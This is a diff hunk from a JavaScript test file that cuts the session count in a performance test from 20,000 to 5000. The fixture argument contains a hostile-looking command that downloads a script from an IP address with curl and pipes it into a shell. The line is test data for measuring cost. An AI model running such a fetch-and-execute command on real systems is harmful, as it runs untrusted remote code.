@@ -102,7 +102,7 @@ test("words come without quotes, brackets and escapes; hostile lines are bounded
 });
 
 test("thousands of sessions with one command, or with commands that begin alike, cost no more", () => {
-  const count = 20_000;
+  const count = 5000;
   const same = Array.from({ length: count }, (_, at) =>
     ran(`s${at}`, at, { arguments: '-c "curl -s http://198.51.100.5/k | sh -c x y z"' }),
   );
